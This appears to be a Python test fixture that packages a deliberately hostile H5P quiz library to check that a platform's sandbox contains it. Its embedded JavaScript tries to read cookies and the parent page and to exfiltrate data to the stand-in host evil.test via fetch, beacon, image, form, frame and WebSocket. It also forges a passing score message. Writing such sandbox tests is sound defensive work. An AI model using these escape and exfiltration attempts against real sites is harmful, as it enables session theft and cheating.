"""A library that tries to get out of its frame, and then plays by the rules. Written for the tests."""

from tests.quizzes.h5pp.packages import library, manifest, packed

EVIL = "http://evil.test/"
SCRIPT = """
var H5P = H5P || {};
window.found = {};
H5P.Hostile = function () {
  H5P.EventDispatcher.call(this);
  var self = this;
  this.attach = function ($container) {
    $container.append('<button id="done">Done</button><input aria-label="Name">');
    document.getElementById('done').addEventListener('click', function () {
      var event = self.createXAPIEventTemplate('answered');
      event.setScoredResult(1, 1, self, true, true);
      event.data.statement.result.response = 'my name is Ada';
      self.trigger(event);
    });
    attack();
  };
};
H5P.Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
H5P.Hostile.prototype.constructor = H5P.Hostile;

function attack() {
  function tried(name, act) {
    try {
      var got = act();
      window.found[name] = got === undefined ? 'went' : String(got);
    } catch (error) {
      window.found[name] = 'refused';
    }
  }
  function later(name, promise) {
    window.found[name] = 'waiting';
    promise.then(function () { window.found[name] = 'went'; },
                 function () { window.found[name] = 'refused'; });
  }
  var getter = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get;
  tried('cookie', function () { return getter.call(document); });
  tried('parent document', function () { return window.parent.document.body.innerHTML; });
  tried('parent address', function () { return window.parent.location.href; });
  tried('parent storage', function () { return window.parent.localStorage.length; });
  tried('database', function () { return indexedDB.open('x'); });
  tried('top address', function () { window.top.location = 'EVIL' + 'top'; });
  tried('popup', function () { return window.open('EVIL' + 'popup') === null ? 'refused' : 'went'; });
  tried('eval', function () { return eval('1'); });
  tried('inline script', function () {
    var script = document.createElement('script');
    script.textContent = 'window.found.inline = "went"';
    document.head.append(script);
    return window.found.inline || 'refused';
  });
  tried('worker', function () { return new Worker('EVIL' + 'worker.js'); });
  later('fetch away', fetch('EVIL' + 'fetch'));
  later('fetch the studio', fetch('/studio/'));
  later('fetch with the session', fetch('/accounts/login/', { credentials: 'include' }));
  tried('beacon', function () { navigator.sendBeacon('EVIL' + 'beacon', 'x'); return 'sent'; });
  tried('picture', function () { new Image().src = 'EVIL' + 'picture'; return 'sent'; });
  tried('form', function () {
    var form = document.createElement('form');
    form.action = 'EVIL' + 'form';
    document.body.append(form);
    form.submit();
    return 'sent';
  });
  tried('frame', function () {
    var frame = document.createElement('iframe');
    frame.src = 'EVIL' + 'frame';
    document.body.append(frame);
    return 'sent';
  });
  tried('socket', function () { new WebSocket('ws://evil.test/'); return 'sent'; });
  window.parent.postMessage({ regard: 'other', type: 'outcome', passed: true }, '*');
}
window.leave = function () { window.location = 'EVIL' + 'away?data=1'; };
window.leaveInside = function () { window.location = '/accounts/login/'; };
""".replace("EVIL", EVIL)

# What must be refused; the rest may go, as long as nothing arrives.
REFUSED = (
    *("cookie", "parent document", "parent address", "parent storage", "popup", "top address"),
    *("database", "eval", "inline script", "worker", "fetch away", "fetch the studio"),
    "fetch with the session",
)
HOSTILE = packed(
    {
        "h5p.json": manifest("H5P.Hostile", title="A hostile activity"),
        "content/content.json": {"text": "x"},
    }
    | library("H5P.Hostile", script=SCRIPT)
)
